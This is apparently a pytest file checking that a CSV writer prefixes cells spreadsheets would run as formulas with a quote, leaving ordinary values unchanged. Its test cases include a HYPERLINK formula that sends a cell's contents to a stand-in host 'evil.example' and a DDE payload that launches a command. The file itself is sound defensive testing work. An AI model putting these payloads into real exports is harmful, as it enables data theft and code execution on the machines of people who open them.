"""The one CSV writer: cells a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io

import pytest

from orientation.core import spreadsheet


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("https://evil.example/?"&A1;"Dr X")', '\'=HYPERLINK("https://evil.example/?"&A1;"Dr X")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+33 •• •• •• 44", "'+33 •• •• •• 44"),
        ("+33611223344", "'+33611223344"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),
        ("Dr Anne Martin", "Dr Anne Martin"),
        ("Paris 20e", "Paris 20e"),
        ("a=b", "a=b"),
        ("'=already quoted", "'=already quoted"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote_and_any_other_is_unchanged(
    cell: object, written: str
) -> None:
    assert spreadsheet.neutralise(cell) == written


def test_the_writer_neutralises_every_cell_and_keeps_csv_quoting() -> None:
    out = io.StringIO()
    writer = spreadsheet.writer(out, delimiter=";")
    writer.writerow(["name", "commune"])
    writer.writerows([['=HYPERLINK("x";"y")', "Paris; 20e"], ["Anne", "@SUM(A1)"]])

    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))

    assert rows == [["name", "commune"], ['\'=HYPERLINK("x";"y")', "Paris; 20e"], ["Anne", "'@SUM(A1)"]]
